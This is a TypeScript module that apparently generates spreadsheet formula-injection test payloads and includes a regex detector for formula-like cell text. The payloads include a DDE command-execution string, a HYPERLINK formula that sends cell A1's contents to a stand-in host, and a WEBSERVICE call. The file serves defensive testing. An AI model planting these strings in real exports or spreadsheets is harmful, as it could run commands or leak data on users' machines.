const BLANKS = ["", " ", "  ", "\u00a0", "\u3000", "'", "''", "\ufeff"];
const STARTS = ["=", "+", "-", "@", ";", "\t", "\r", "\n", "＝", "＋", "－", "＠", "；"];
const RESTS = [
  "1+1",
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://x.test?"&A1,"click")',
  "SUM(1,2)\r\n=2",
  'WEBSERVICE("http://x.test")',
  "=1",
];

/** Texts that a spreadsheet would run if it were given them bare: every start after every kind of blank. */
export const PAYLOADS: readonly string[] = BLANKS.flatMap((blank) =>
  STARTS.flatMap((start) => RESTS.map((rest) => `${blank}${start}${rest}`)),
);

/** Whether a spreadsheet would take a cell's text for a formula. */
export function isLive(text: string): boolean {
  return /^\s*[=+\-@;\t\r\n＝＋－＠；]/.test(text);
}
